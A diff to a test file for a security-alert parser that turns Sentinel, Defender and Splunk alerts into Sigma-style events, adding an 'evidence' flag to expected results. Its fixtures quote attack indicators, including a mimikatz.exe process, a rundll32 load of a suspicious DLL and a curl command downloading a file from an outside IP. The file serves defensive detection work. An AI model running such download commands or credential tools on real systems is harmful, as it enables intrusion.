@@ -155,6 +155,7 @@ describe('Sentinel: SecurityAlert rows', () => {
     expect(alert?.sourceEvents).toEqual([
       {
         logsources: [{ product: 'windows', category: 'process_creation' }],
+        evidence: true,
         fields: {
           Image: 'c:\\windows\\servic~2\\networ~1\\appdata\\local\\temp\\mimikatz.exe',
           CommandLine: '.\\mimikatz.exe',
@@ -186,11 +187,13 @@ describe('Defender: evidence as Sigma events', () => {
     expect(alert?.sourceEvents).toEqual([
       {
         logsources: [{ product: 'windows', category: 'file_event' }],
+        evidence: true,
         fields: { TargetFilename: 'C:\\Program Files\\temp\\MsSense.exe' },
         pointer: '/evidence/1',
       },
       {
         logsources: [{ product: 'windows', category: 'process_creation' }],
+        evidence: true,
         fields: {
           Image: 'C:\\Program Files\\temp\\MsSense.exe',
           CommandLine: '"MsSense.exe"',
@@ -203,6 +206,7 @@ describe('Defender: evidence as Sigma events', () => {
       },
       {
         logsources: [{ product: 'windows', category: 'registry_event' }],
+        evidence: true,
         fields: { TargetObject: 'HKLM\\SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER' },
         pointer: '/evidence/3',
       },
@@ -222,6 +226,7 @@ describe('Defender: evidence as Sigma events', () => {
         Details: 'C:\\Users\\Administrator\\Downloads\\malware-ctl.exe',
         EventType: 'SetValue',
       },
+      evidence: true,
       pointer: '/evidence/3',
     });
     const linux = {
@@ -241,6 +246,7 @@ describe('Defender: evidence as Sigma events', () => {
     expect(accept(defenderParser, linux)[0]?.sourceEvents).toEqual([
       {
         logsources: [{ product: 'linux', category: 'process_creation' }],
+        evidence: true,
         fields: { Image: '/usr/bin/curl', CommandLine: 'curl -o /tmp/x http://198.51.100.7/x' },
         pointer: '/evidence/1',
       },
@@ -263,6 +269,7 @@ describe('Defender: evidence as Sigma events', () => {
     expect(mde?.sourceEvents).toEqual([
       {
         logsources: [{ product: 'windows', category: 'process_creation' }],
+        evidence: true,
         fields: {
           Image: 'C:\\Windows\\SysWOW64\\rundll32.exe',
           CommandLine: 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe',
@@ -272,13 +279,15 @@ describe('Defender: evidence as Sigma events', () => {
         },
         pointer: '/evidence/1',
       },
-      { logsources: [{ product: 'windows', category: 'file_event' }], fields: { TargetFilename: 'c:\\temp\\suspicious.dll' }, pointer: '/evidence/2' },
+      { logsources: [{ product: 'windows', category: 'file_event' }], evidence: true, fields: { TargetFilename: 'c:\\temp\\suspicious.dll' }, pointer: '/evidence/2' },
     ]);
     const [streamed] = accept(defenderParser, load('defender/streaming_eventhubs_alertinfo_alertevidence.json'));
     expect(streamed?.sourceEvents?.map((e) => [e.logsources[0]?.category, e.fields['Image'] ?? e.fields['TargetFilename'], e.pointer])).toEqual([
       ['process_creation', 'C:\\Windows\\SysWOW64\\rundll32.exe', '/records/3/properties'],
       ['file_event', 'c:\\temp\\suspicious.dll', '/records/4/properties'],
     ]);
+    // An EDR's evidence lists what the product chose to show; triage does not read its silence as "nothing found".
+    expect(streamed?.sourceEvents?.every((e) => e.evidence === true)).toBe(true);
   });
 
   it('gives an incident without expanded alerts no events', () => {
@@ -294,6 +303,7 @@ describe('Splunk: CIM Endpoint.Processes fields', () => {
     expect(alert?.sourceEvents).toEqual([
       {
         logsources: [{ product: 'windows', category: 'process_creation' }],
+        evidence: true,
         fields: {
           ...CERTUTIL,
           ParentCommandLine: '"C:\\Windows\\System32\\cmd.exe"',
